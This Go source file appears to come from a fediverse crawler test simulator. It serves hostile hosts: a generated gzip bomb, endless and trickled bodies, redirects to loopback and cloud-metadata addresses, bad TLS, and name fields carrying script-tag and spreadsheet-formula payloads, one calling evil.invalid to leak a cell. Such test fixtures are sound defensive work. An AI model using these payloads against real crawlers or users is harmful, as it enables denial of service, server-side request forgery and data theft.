package fedisim

import (
	"bufio"
	"bytes"
	"compress/flate"
	"context"
	"encoding/binary"
	"errors"
	"fmt"
	"hash/crc32"
	"iter"
	"net/http"
	"sort"
	"strconv"
	"strings"
	"time"
)

// MaxStall caps how long any hostile response lasts (slow headers,
// trickled and endless bodies): the goroutine ends when the client goes away
// or after MaxStall, whichever comes first.
const MaxStall = 2 * time.Minute

// TrickleInterval is the pause between two bytes of a trickled body.
const TrickleInterval = time.Second

// Sizes of the generated attacks.
const (
	GzipBombSize  = 2 << 30    // decompressed bytes of the gzip bomb (its body is about 2 MB)
	DeepJSONDepth = 100_000    // nesting depth of the deep NodeInfo document
	HugeHeaderLen = 2 << 20    // bytes in the huge response header's value
	HugePeersLen  = 10_000_000 // entries in the huge peers list
)

// Hostile host names with a fixed role. Each is its own registrable domain.
const (
	HostileRedirectTarget = "hostile-redirect-target.social"   // a plain valid instance: target of the cross-host redirects
	SpamFarmDomain        = "fedi-spam-farm.online"            // registrable domain of the spam farm's subdomains
	PrivateLoopback       = "hostile-private-loopback.social"  // the test should resolve it to 127.0.0.2
	PrivateMetadata       = "hostile-private-metadata.social"  // the test should resolve it to 169.254.169.254
	PrivateIPv6Loopback   = "hostile-private-ipv6-loop.social" // the test should resolve it to ::1
	PrivateULA            = "hostile-private-ula.social"       // the test should resolve it to fd00::1
	HostileGzipMembers    = "hostile-gzip-members.social"      // streams empty gzip members forever (GzipMembersSent)
)

// GzipMembersSent is the number of body bytes HostileGzipMembers has
// written to its connections so far: what its endless stream cost the
// crawler, as far as the server's side can tell (bytes still in socket
// buffers included).
func (s *Sim) GzipMembersSent() int64 { return s.gzipMembersSent.Load() }

type hostileHost struct {
	info   Info
	attack string
	cert   int
	listed bool // named in hubs' peers lists so that a crawl finds it
	serve  http.HandlerFunc
}

// Hostile returns every hostile host name and the attack it mounts (empty
// unless Config.HostileHosts). The spam farm's subdomains are included.
func (s *Sim) Hostile() map[string]string {
	out := make(map[string]string, len(s.hostile))
	for name, h := range s.hostile {
		out[name] = h.attack
	}
	return out
}

// SpamFarm returns the spam farm's host names (nil unless
// Config.HostileHosts).
func (s *Sim) SpamFarm() []string {
	if s.hostile == nil {
		return nil
	}
	out := make([]string, s.cfg.SpamFarmSize)
	for k := range out {
		out[k] = spamFarmHost(k)
	}
	return out
}

func spamFarmHost(k int) string { return "node" + strconv.Itoa(k) + "." + SpamFarmDomain }

// hostileInfo is the ground truth shared by the hostile hosts: a Mastodon
// that never changes.
func hostileInfo(host string) Info {
	return Info{
		Host: host, Index: -1, Family: "mastodon", Software: "mastodon", NodeInfoName: "mastodon",
		Version: "4.3.2", NodeInfoVersion: "2.0", Name: "Hostile " + host, Description: "fedisim hostile host",
		Users: 42, ActiveMonth: 7, ActiveHalfyear: 12, LocalPosts: 1234, Open: true,
		PeersPath: pathMastodonPeers, PeersStatus: 200,
		DiesDay: NoDay, RevivesDay: NoDay, MovesDay: NoDay, MovingDay: NoDay, MovingEnd: NoDay, OptOutDay: NoDay,
	}
}

func (s *Sim) hostileHosts() map[string]hostileHost {
	m := map[string]hostileHost{}
	add := func(host, attack string, mut func(*Info), serve func(n *node) http.HandlerFunc) {
		inf := hostileInfo(host)
		if mut != nil {
			mut(&inf)
		}
		n := &node{inf: inf, fam: &families[0], robots: "User-agent: *\nDisallow:\n", peers: s.fewPeers()}
		h := hostileHost{info: inf, attack: attack, listed: true}
		if serve == nil {
			h.serve = func(w http.ResponseWriter, r *http.Request) { s.serveNode(w, r, n) }
		} else {
			// robots.txt always allows, so that the attack meets the NodeInfo fetch.
			attackFn := serve(n)
			h.serve = func(w http.ResponseWriter, r *http.Request) {
				if r.URL.Path == "/robots.txt" {
					s.serveNode(w, r, n)
					return
				}
				attackFn(w, r)
			}
		}
		m[host] = h
	}

	add("hostile-slow-headers.social", "slow headers: no response until the client gives up", nil, func(n *node) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			stall(r.Context(), MaxStall)
			abort()
		}
	})
	add("hostile-trickle.social", "body trickled one byte per second", nil, func(n *node) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			body := appendNodeInfo(nil, n, "2.0")
			if r.URL.Path == "/.well-known/nodeinfo" {
				body = appendWellKnown(nil, n)
			}
			w.Header().Set("Content-Type", "application/json")
			w.WriteHeader(200)
			rc := http.NewResponseController(w)
			deadline := time.Now().Add(MaxStall)
			for k := range body {
				if _, err := w.Write(body[k : k+1]); err != nil {
					return
				}
				if rc.Flush() != nil || time.Now().After(deadline) || !stall(r.Context(), TrickleInterval) {
					return
				}
			}
		}
	})
	add("hostile-endless.social", "endless body", nil, func(n *node) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", "application/json")
			w.WriteHeader(200)
			if _, err := w.Write([]byte(`{"links":[{"rel":"http://nodeinfo.diaspora.software/ns/schema/2.0","href":"`)); err != nil {
				return
			}
			chunk := bytes.Repeat([]byte("a"), 32<<10)
			deadline := time.Now().Add(MaxStall)
			for r.Context().Err() == nil && time.Now().Before(deadline) {
				if _, err := w.Write(chunk); err != nil {
					return
				}
			}
		}
	})
	add("hostile-gzip-bomb.social", fmt.Sprintf("gzip bomb: Content-Encoding gzip, about 2 MB that inflate to %d bytes, on every path", GzipBombSize), nil, func(n *node) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			b, err := s.gzipBomb()
			if err != nil {
				http.Error(w, err.Error(), 500)
				return
			}
			w.Header().Set("Content-Type", "application/json")
			w.Header().Set("Content-Encoding", "gzip")
			w.Header().Set("Content-Length", strconv.FormatInt(b.size(), 10))
			w.WriteHeader(200)
			b.writeTo(r.Context(), w)
		}
	})
	add(HostileGzipMembers, "endless empty gzip members: Content-Encoding gzip that decodes to nothing, on every path", nil, func(n *node) http.HandlerFunc {
		// An empty member: header, an empty final stored block, CRC and
		// size of nothing.
		member := []byte{0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff, 0x01, 0x00, 0x00, 0xff, 0xff, 0, 0, 0, 0, 0, 0, 0, 0}
		chunk := bytes.Repeat(member, (32<<10)/len(member))
		return func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Content-Type", "application/json")
			w.Header().Set("Content-Encoding", "gzip")
			w.WriteHeader(200)
			deadline := time.Now().Add(MaxStall)
			for r.Context().Err() == nil && time.Now().Before(deadline) {
				k, err := w.Write(chunk)
				s.gzipMembersSent.Add(int64(k))
				if err != nil {
					return
				}
			}
		}
	})
	add("hostile-deep-json.social", fmt.Sprintf("NodeInfo document nested %d deep", DeepJSONDepth), nil, func(n *node) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			if r.URL.Path != "/nodeinfo/2.0" {
				s.serveNode(w, r, n)
				return
			}
			streamJSON(w, func(bw *bufio.Writer) {
				bw.WriteString(`{"version":"2.0","software":{"name":"mastodon","version":"4.3.2"},"metadata":`)
				for range DeepJSONDepth {
					bw.WriteString(`{"a":`)
				}
				bw.WriteString("1")
				for range DeepJSONDepth {
					bw.WriteByte('}')
				}
				bw.WriteString(`}`)
			})
		}
	})
	add("hostile-huge-header.social", fmt.Sprintf("a response header of %d bytes on every path", HugeHeaderLen), nil, func(n *node) http.HandlerFunc {
		pad := strings.Repeat("a", HugeHeaderLen)
		return func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("X-Fedisim-Padding", pad)
			s.serveNode(w, r, n)
		}
	})
	add("hostile-redirect-loop.social", "redirect loop on the same host: 302 from P to P?loop=1 and back", nil, func(n *node) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			target := r.URL.Path + "?loop=1"
			if r.URL.Query().Get("loop") == "1" {
				target = r.URL.Path
			}
			w.Header().Set("Location", target)
			w.WriteHeader(302)
		}
	})
	for _, code := range []int{301, 302, 303, 307, 308} {
		c := strconv.Itoa(code)
		add("hostile-redirect-"+c+".social", "same-host "+c+" redirect of every path P to /r/P, which serves a valid instance", nil, func(n *node) http.HandlerFunc {
			return func(w http.ResponseWriter, r *http.Request) {
				if rest, ok := strings.CutPrefix(r.URL.Path, "/r/"); ok {
					r2 := *r
					u := *r.URL
					u.Path = "/" + rest
					r2.URL = &u
					s.serveNode(w, &r2, n)
					return
				}
				w.Header().Set("Location", "/r"+r.URL.RequestURI())
				w.WriteHeader(code)
			}
		})
		add("hostile-xredirect-"+c+".social", "cross-host "+c+" redirect of every path to "+HostileRedirectTarget, nil, redirectTo(code, "https://"+HostileRedirectTarget))
	}
	add(HostileRedirectTarget, "none: a valid instance, target of the cross-host redirects and of a foreign NodeInfo href", nil, nil)
	for _, t := range []struct{ name, url, private string }{
		{"loopback", "https://127.0.0.2", PrivateLoopback},
		{"metadata", "https://169.254.169.254", PrivateMetadata},
		{"ipv6-loop", "https://[::1]", PrivateIPv6Loopback},
		{"ula", "https://[fd00::1]", PrivateULA},
	} {
		add("hostile-redirect-ip-"+t.name+".social", "302 redirect of every path to the literal address "+t.url, nil, redirectTo(302, t.url))
		add("hostile-redirect-name-"+t.name+".social", "301 redirect of every path to "+t.private+", a name the test maps to a private address", nil, redirectTo(301, "https://"+t.private))
		addr := strings.Trim(strings.TrimPrefix(t.url, "https://"), "[]")
		add(t.private, "DNS answer attack: the test should resolve this name to "+addr+"; a request reaching the simulator means the guard failed", nil, nil)
		h := m[t.private]
		h.listed = false
		m[t.private] = h
	}
	for _, t := range []struct {
		name, attack string
		cert         int
	}{
		{"hostile-tls-expired.social", "TLS: certificate expired 30 days ago", certExpired},
		{"hostile-tls-wrong-name.social", "TLS: certificate for some-other-name.social", certWrongName},
		{"hostile-tls-self-signed.social", "TLS: self-signed certificate not from the CA", certSelfSigned},
	} {
		add(t.name, t.attack, nil, nil)
		h := m[t.name]
		h.cert = t.cert
		m[t.name] = h
	}
	add("hostile-bad-utf8.social", "invalid UTF-8 in every text field of NodeInfo (software name and version, name, description)", func(inf *Info) {
		inf.Name = "Bad \xff\xfe UTF-8 \xc3\x28 name"
		inf.Description = "Overlong \xc0\xaf, surrogate \xed\xa0\x80, stray \x80 in the description"
		inf.Version = "4.3.2\xff"
		inf.NodeInfoName = "mastodon\xfe"
		inf.Software = inf.NodeInfoName
	}, nil)
	add("hostile-nul-bytes.social", "NUL and control bytes (JSON \\u0000 escapes) in every text field of NodeInfo", func(inf *Info) {
		inf.Name = "nul\x00name\x01"
		inf.Description = "line\x00two\x1b[31mred"
		inf.Version = "4.3.2\x00"
		inf.NodeInfoName = "mastodon\x00"
		inf.Software = inf.NodeInfoName
	}, nil)
	add("hostile-peers-10m.social", fmt.Sprintf("peers list of %d entries, streamed", HugePeersLen), nil, func(n *node) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			if r.URL.Path != pathMastodonPeers {
				s.serveNode(w, r, n)
				return
			}
			streamJSON(w, func(bw *bufio.Writer) { writeMastodon(bw, hugePeers(r.Context())) })
		}
	})
	add("hostile-peers-junk.social", "peers list full of junk: IPs, ports, paths, 300-byte names, unknown TLDs, emoji, non-strings", nil, func(n *node) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			if r.URL.Path != pathMastodonPeers {
				s.serveNode(w, r, n)
				return
			}
			streamJSON(w, func(bw *bufio.Writer) {
				bw.WriteString("[1,null,true,{\"host\":\"object.social\"},[\"nested.social\"],\"bad-\xff.social\",")
				var b []byte
				for k := range 20 {
					for _, j := range junkPeers {
						b = appendJSONString(b[:0], j)
						bw.Write(b)
						bw.WriteByte(',')
					}
					bw.WriteString(`"junk-` + strconv.Itoa(k) + `.unknowntld",`)
				}
				bw.WriteString(`"` + HostileRedirectTarget + `"]`)
			})
		}
	})
	add("hostile-nodeinfo-elsewhere.social", "well-known NodeInfo href points to "+HostileRedirectTarget, nil, func(n *node) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			if r.URL.Path != "/.well-known/nodeinfo" {
				s.serveNode(w, r, n)
				return
			}
			writeJSON(w, 200, []byte(`{"links":[{"rel":"http://nodeinfo.diaspora.software/ns/schema/2.0","href":"https://`+HostileRedirectTarget+`/nodeinfo/2.0"}]}`))
		}
	})
	for _, t := range []struct{ host, name, desc string }{
		{"hostile-script-tags.social", "<script>alert(1)</script>", `<img src=x onerror="alert(1)"><a href="javascript:alert(1)">click</a>`},
		{"hostile-formula-hyperlink.social", `=HYPERLINK("https://evil.invalid/?leak="&A1,"Click me")`, `=1+1`},
		{"hostile-formula-plus.social", `+cmd|' /C calc'!A0`, `+1+2`},
		{"hostile-formula-minus.social", `-2+3`, `-cmd|' /C calc'!A0`},
		{"hostile-formula-at.social", `@SUM(1+1)*cmd|' /C calc'!A0`, `@SUM(A1:A9)`},
		{"hostile-formula-quoted.social", `"quoted", with a comma`, "tab\there, \"quotes\" and a\nnewline"},
	} {
		add(t.host, "markup/formula in name and description: "+t.name, func(inf *Info) {
			inf.Name, inf.Description = t.name, t.desc
		}, nil)
	}
	farm := make([]string, s.cfg.SpamFarmSize)
	for k := range farm {
		farm[k] = spamFarmHost(k)
	}
	for k, host := range farm {
		add(host, fmt.Sprintf("spam farm: one of %d subdomains of %s, all alive, all listing each other", len(farm), SpamFarmDomain), func(inf *Info) {
			inf.Name = "Totally Real Instance " + strconv.Itoa(k)
			inf.Users = 100000
		}, nil)
		h := m[host]
		inf := h.info
		n := &node{inf: inf, fam: &families[0], robots: "User-agent: *\nDisallow:\n", peers: func(yield func(string) bool) {
			for _, f := range farm {
				if f != host && !yield(f) {
					return
				}
			}
		}}
		h.serve = func(w http.ResponseWriter, r *http.Request) { s.serveNode(w, r, n) }
		h.listed = k == 0
		m[host] = h
	}
	for name, h := range m {
		if h.listed {
			s.hostileListed = append(s.hostileListed, name)
		}
	}
	sort.Strings(s.hostileListed)
	return m
}

func redirectTo(code int, base string) func(n *node) http.HandlerFunc {
	return func(n *node) http.HandlerFunc {
		return func(w http.ResponseWriter, r *http.Request) {
			w.Header().Set("Location", base+r.URL.RequestURI())
			w.WriteHeader(code)
		}
	}
}

// fewPeers is the peers list of the hostile hosts: the first instances.
func (s *Sim) fewPeers() iter.Seq[string] {
	return func(yield func(string) bool) {
		for i := uint64(0); i < s.w.n && i < 20; i++ {
			if h := s.w.currentHost(i, s.Day()); h != "" && !yield(h) {
				return
			}
		}
	}
}

func hugePeers(ctx context.Context) iter.Seq[string] {
	return func(yield func(string) bool) {
		var buf []byte
		for k := 0; k < HugePeersLen; k++ {
			if k%10000 == 0 && ctx.Err() != nil {
				return
			}
			buf = append(buf[:0], "flood-"...)
			buf = strconv.AppendInt(buf, int64(k), 36)
			buf = append(buf, ".social"...)
			if !yield(string(buf)) {
				return
			}
		}
	}
}

// stall waits for d or until ctx ends; it reports whether the full time
// passed.
func stall(ctx context.Context, d time.Duration) bool {
	t := time.NewTimer(d)
	defer t.Stop()
	select {
	case <-t.C:
		return true
	case <-ctx.Done():
		return false
	}
}

// bomb is a gzip stream built from one compressed megabyte repeated: a
// deflate block of a window full of the same byte encodes the same way every
// time, so the body is generated, not stored.
type bomb struct {
	head, seg, tail []byte
	segs            int
}

func (b *bomb) size() int64 {
	return int64(len(b.head)) + int64(b.segs)*int64(len(b.seg)) + int64(len(b.tail))
}

func (b *bomb) writeTo(ctx context.Context, w http.ResponseWriter) {
	if _, err := w.Write(b.head); err != nil {
		return
	}
	for range b.segs {
		if ctx.Err() != nil {
			return
		}
		if _, err := w.Write(b.seg); err != nil {
			return
		}
	}
	w.Write(b.tail)
}

// gzipBomb builds the bomb on first use (Start, when it serves the hostile
// hosts) and keeps it, about 2 MB, for the life of the simulator.
func (s *Sim) gzipBomb() (*bomb, error) { return s.bomb() }

func makeBomb(megabytes int) (*bomb, error) {
	const prefix = `{"version":"2.0","software":{"name":"mastodon","version":"4.3.2"},"metadata":{"nodeName":"`
	const suffix = `"}}`
	chunk := bytes.Repeat([]byte("A"), 1<<20)
	var buf bytes.Buffer
	zw, err := flate.NewWriter(&buf, flate.BestCompression)
	if err != nil {
		return nil, fmt.Errorf("gzip bomb: %w", err)
	}
	take := func() []byte {
		out := bytes.Clone(buf.Bytes())
		buf.Reset()
		return out
	}
	// gzip header: magic, deflate, no flags, no mtime, unknown OS.
	head := []byte{0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff}
	zw.Write([]byte(prefix))
	// The first two megabytes warm up the window; from then on every
	// flushed megabyte is byte-identical.
	for range 2 {
		zw.Write(chunk)
		zw.Flush()
	}
	head = append(head, take()...)
	zw.Write(chunk)
	zw.Flush()
	seg := take()
	zw.Write(chunk)
	zw.Flush()
	if !bytes.Equal(seg, take()) {
		return nil, errors.New("gzip bomb: repeated megabytes did not compress identically")
	}
	zw.Write([]byte(suffix))
	zw.Close()
	tail := take()

	crc := crc32.ChecksumIEEE([]byte(prefix))
	for range megabytes {
		crc = crc32.Update(crc, crc32.IEEETable, chunk)
	}
	crc = crc32.Update(crc, crc32.IEEETable, []byte(suffix))
	total := uint64(len(prefix)) + uint64(megabytes)<<20 + uint64(len(suffix))
	tail = binary.LittleEndian.AppendUint32(tail, crc)
	tail = binary.LittleEndian.AppendUint32(tail, uint32(total))
	// The head holds two megabytes; the check copy of seg is not sent, which
	// is fine because the tail only refers back into the last 32 KiB, all "A".
	return &bomb{head: head, seg: seg, tail: tail, segs: megabytes - 2}, nil
}
